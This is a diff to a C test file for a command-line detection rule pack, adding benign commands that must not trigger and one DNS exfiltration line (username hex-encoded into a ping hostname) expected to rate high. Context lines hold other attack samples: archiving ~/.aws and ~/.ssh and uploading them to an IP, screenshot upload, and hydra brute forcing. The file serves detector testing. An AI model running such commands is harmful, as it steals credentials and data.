@@ -941,6 +941,8 @@ static void test_pack_benign(void **state) {
         "tar czf site.tgz public && curl -T site.tgz https://uploads.example.com/site.tgz",
         "screencapture -i shot.png && open shot.png", "whois example.com",
         "openssl s_client -connect example.com:443 > /dev/null", "hping3 -S -p 80 -c 3 example.com",
+        "curl -fsSLO https://cdn.example.com/lib/chart.min.js && node build.js",
+        "host $(hostname).corp.example.com", "dig +short $(hostname -s).example.net",
     };
     int err;
     sigma_rules *rs = sigma_rules_new(&err);
@@ -1074,6 +1076,7 @@ static const struct { const char *cmd; int level; } pack_attacks[] = {
     {"tar -cjf /var/tmp/h.tbz ~/.aws ~/.ssh && curl -T /var/tmp/h.tbz ftp://198.51.100.31/in/", SIGMA_HIGH},
     {"import -window root /tmp/.w.png; curl -s -F img=@/tmp/.w.png http://198.51.100.32/up", SIGMA_HIGH},
     {"hydra -L users.txt -P pw.txt 192.0.2.7 ftp", SIGMA_HIGH},
+    {"ping -c1 $(id -un | xxd -p).t.example.org", SIGMA_HIGH},
 };
 
 /* Dual-use and discovery lines: each must be hit at exactly medium (a hint
